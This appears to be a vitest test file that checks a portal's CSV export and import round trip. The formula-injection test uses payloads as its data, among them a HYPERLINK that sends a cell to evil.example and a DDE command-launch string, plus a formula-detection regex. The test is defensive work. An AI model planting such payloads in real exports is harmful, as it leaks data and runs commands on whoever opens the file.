import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { PassThrough } from 'node:stream'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { systemClock } from '#backend/clock.ts'
import { createAdministrator } from '#backend/command/createAdministrator.ts'
import { openDatabase } from '#backend/database/openDatabase.ts'
import { runImport } from '#backend/imports/folders/command.ts'
import { exportFiles } from '#backend/imports/folders/exportFiles.ts'
import { calls } from '#schema/index.ts'
import { type Api, type Client, demoPassword, startApi } from '#tests/support/client/apiClient.ts'
import { customers } from '#tests/support/client/users.ts'
import { createDatabase, dropDatabase } from '#tests/support/database/postgres.ts'
import { someOf } from '#tests/support/database/upTo.ts'
import { onePixel } from '#tests/support/files/uploads.ts'
import { businessDay } from '#tests/support/portal/settings.ts'
import { enterPlantFigures } from '#tests/support/rows/plantFigures.ts'
import { callsOfCustomer, expectedCalls } from '../../calls/calls.data.ts'

const timeZone = 'America/Monterrey'
const server = process.env.TEST_POSTGRES_URL

let demo: Api
let plant: Api
let folder: string
let clients: readonly Client[]

/**
 * Creates a data folder (and a PostgreSQL database if the run uses one) with only the imported files and one
 * administrator.
 */
const importInto = async (dataDir: string) => {
  const databaseUrl =
    process.env.TEST_DATABASE === 'postgres' && server ? await createDatabase(server, basename(dataDir)) : undefined
  const place = { dataDir, databaseUrl, timeZone }
  const errors = new PassThrough()
  const code = await runImport([folder], () => place, { output: new PassThrough().resume(), errors })
  expect([code, errors.read()?.toString() ?? '']).toEqual([0, ''])
  const { db, close } = await openDatabase(place)
  await db.insertInto('settings').values({ key: 'business_day', value: businessDay }).execute()
  await createAdministrator(
    { db, clock: systemClock(timeZone, null), company: 'Anvil' },
    { name: 'Valeria Admin', email: 'admin@anvil.example', password: demoPassword },
  )
  await close()
}

let target: string

/** Text that a customer may have written when refusing a bar. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\uff1d1+1',
  "'=1",
  "''=1",
  'a;=1+1',
  "a;'=1",
  'a\n=2',
  '-5',
  'plain',
]

beforeAll(async () => {
  demo = await startApi()
  folder = await mkdtemp(join(tmpdir(), 'anvil-files-'))
  target = await mkdtemp(join(tmpdir(), 'portal-imported-'))
  // The demo's photos are drawn SVGs; replace them with bitmaps.
  for (const table of ['contact_photos', 'team_photos'])
    await demo.rows.ask(`update ${table} set media_type = 'image/png', photo = ?`, onePixel)
  for (const [at, formula] of formulas.entries())
    await demo.rows.ask(
      `update bars set refusal = ?, is_approved = 0, decided_on = '2026-11-02', approval_file_id = null where id = (select id from bars order by id limit 1 offset ?)`,
      formula,
      at,
    )
  await enterPlantFigures(demo)
  await exportFiles(demo, folder, () => {})
  await importInto(target)
  plant = await startApi({ template: target, env: { DEMO: 'off' } })
  clients = await Promise.all([demo.as('admin'), plant.as('admin')])
})

afterAll(async () => {
  await Promise.all([demo?.stop(), plant?.stop()])
  for (const path of [folder, target]) await rm(path, { recursive: true, force: true })
  if (server) await dropDatabase(server, basename(target))
})

test('exported files contain no cell that a spreadsheet takes for a formula', async () => {
  const isNumber = /^-?\d+(\.\d+)?$/
  const isFormula = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[;|\t\r\n]\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/
  const files = (await readdir(folder)).filter((name) => name.endsWith('.csv'))
  expect(files).toContain('bars.csv')
  for (const name of files) {
    const cells = (parse(await readFile(join(folder, name))) as string[][]).flat()
    expect(
      cells.filter((cell) => isFormula.test(cell) && !isNumber.test(cell)),
      name,
    ).toEqual([])
  }
})

test('text that looks like a formula is unchanged after export and import', async () => {
  const rejectionsOf = async ({ rows }: Api) =>
    (await rows.ask('select refusal from bars where refusal is not null order by id')).map(({ refusal }) => refusal)
  expect(await rejectionsOf(demo)).toEqual(expect.arrayContaining(formulas))
  expect(await rejectionsOf(plant)).toEqual(await rejectionsOf(demo))
})

test('quotes are the same after export and import, without the users who asked for them', async () => {
  const quotesOf = ({ rows }: Api) =>
    rows.ask(`select quotes.number, quoted_on, expires_on, revision, items, amount, position,
        quote_lines.quantity, quote_lines.price, parts.provider_number, job_orders.number as job_order
      from quotes left join quote_lines on quote_id = quotes.id left join parts on parts.id = quote_lines.part_id
      left join job_orders on job_orders.id = quote_lines.job_order_id order by quotes.number, position`)
  const before = await quotesOf(demo)
  expect(before.length).toBeGreaterThan(0)
  expect(await quotesOf(plant)).toEqual(before)
})

test('the documents of the plant are the same after export and import', async () => {
  const documentsOf = ({ rows }: Api) =>
    rows.ask(`select plant_documents.kind, name, sha256, size, ncr from plant_documents
      left join concessions on concessions.id = concession_id order by kind, ncr, name, sha256`)
  const before = await documentsOf(demo)
  expect(before.length).toBeGreaterThan(0)
  expect(await documentsOf(plant)).toEqual(before)
})

const users = 'users and what they did'
const quotes = 'quotes that were asked for in the portal'
const uploads = 'files and decisions that people left in the portal'

/** Calls whose answers contain data that only the portal keeps and no file contains. */
const ofThePortal: Readonly<Record<string, string>> = {
  'administration.listUsers': users,
  'auditLog.readAudit': users,
  'approvalFiles.listFolders': uploads,
  'approvalFiles.listFiles': uploads,
  'approvalFiles.listPartNumbers': uploads,
  'approvalFiles.listChildren': uploads,
  // Search also finds users, quotes and files.
  'globalSearch.search': users,
  'earlierCalls.search': users,
  'budgets.get': 'versions of budgets',
  'concessions.list': uploads,
  'documents.statement': uploads,
  'finance.invoiceStates': uploads,
  'dataFreshness.list': 'when the files came',
  'imports.listRuns': 'when the files came',
  'imports.listKinds': 'when the files came',
  'material.listApprovals': uploads,
  'metrics.tiles': users,
  'metrics.listUsersByAccess': users,
  'metrics.listDivisionUsers': users,
  'metrics.newUsersByMonth': users,
  'metrics.listNewUsers': users,
  'metrics.listQuoted': quotes,
  // An item is ordered by a job order, or by an order placed in the portal.
  'metrics.hitRateByMonth': quotes,
  'metrics.listHitRates': quotes,
  'offers.list': uploads,
  'openPoints.document': uploads,
  'openPoints.ofPlant': uploads,
  'openPoints.ofRequests': uploads,
  'orderReports.listLines': users,
  'requests.list': uploads,
  'orderRequests.list': quotes,
  'quoteHistory.list': quotes,
  // The task list includes users, quotes, files and mails.
  'tasks.list': users,
  'earlierCalls.listTasks': users,
  'tasks.listRows': users,
  'visits.totalUsers': users,
  'visits.createdUsers': users,
  'visits.visitedPages': users,
  'visits.monthlyVisits': users,
}

const reads = calls.flatMap(([name, { method, service }]) => {
  if (name in ofThePortal || method !== 'GET' || (service !== 'read' && service !== 'content')) return []
  const path = expectedCalls[name]?.path
  const ofCustomer = callsOfCustomer[name]
  const paths = [
    ...(path ? [path(0)] : []),
    ...(ofCustomer ? someOf(Object.values(customers)).map((customer) => ofCustomer(customer).path(0)) : []),
  ]
  return [[name, [...new Set(paths)]] as const]
})

/** Generated PDFs contain their creation time and an id derived from it. */
const withoutMoment = (text: string) => text.replace(/\/ID \[.*\]|\(D:\d{14}Z\)|<xmp:\w+Date>.*<\/xmp:\w+Date>/g, '')

test('calls excluded from the round trip exist', () => {
  const names = calls.map(([name]) => name)
  expect(Object.keys(ofThePortal).filter((name) => !names.includes(name))).toEqual([])
})

const answered = async (client: Client, path: string) => {
  const { status, body, text } = await client.get(path)
  return { path, status, ...(status === 200 ? { answer: body ?? withoutMoment(text) } : { error: body?.error }) }
}

test.each(reads)('%s returns the same after export and import', async (_, paths) => {
  for (const path of paths) {
    const [before, after] = await Promise.all(clients.map((client) => answered(client, path)))
    expect(after).toEqual(before)
  }
})
